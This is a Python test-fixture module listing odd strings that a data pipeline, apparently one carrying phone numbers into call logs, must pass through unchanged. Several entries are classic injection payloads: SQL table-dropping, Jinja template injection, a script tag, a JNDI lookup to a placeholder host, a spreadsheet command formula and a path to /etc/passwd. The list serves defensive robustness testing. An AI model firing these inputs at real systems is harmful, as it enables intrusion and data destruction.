r"""Texts that look dangerous or broken and are ordinary all the same: each must arrive at the platform as it stands.

NUL and lone surrogates are not here: PostgreSQL cannot hold them, so they cannot come from a docking store.
"""

from __future__ import annotations

from types import MappingProxyType
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Mapping

ODD_TEXTS: Mapping[str, str] = MappingProxyType(
    {
        "COPY's own null": r"\N",
        "the word NULL": "NULL",
        "the word null": "null",
        "Jinja": "{{ 7*7 }}{% raw %}",
        "SQL": "'; DROP TABLE call_log;--",
        "a format": "%s %(key)s {0}",
        "a script": "<script>alert(1)</script>",
        "a lookup": "${jndi:ldap://x.example}",
        "a formula": "=cmd|' /C calc'!A0",
        "a path": "../../etc/passwd",
        "quotes and backslashes": "\"'`\\\\\\",
        "emoji": "😀👨‍👩‍👧",
        "rare characters": "𠮷𬱖",
        "NBSP": "138\u00a00013\u00a08000",
        "zero-width": "138\u200b0013\u200d8000",
        "a byte order mark": "\ufeff13800138000",
        "right to left": "\u202e13800138000\u202c",
        "tabs and newlines": "\t13800138000\r\n",
        "control characters": "\x01\x1b[31m\x7f\x85",
        "private use": "\ue000\uf8ff",
        "combining marks": "e\u0301a\u0308",
        "full-width": "１３８００１３８０００",
        "two numbers": "13800138000、07518888888",
        "an extension": "0751-8888888转801",
        "unknown": "未知",
    }
)
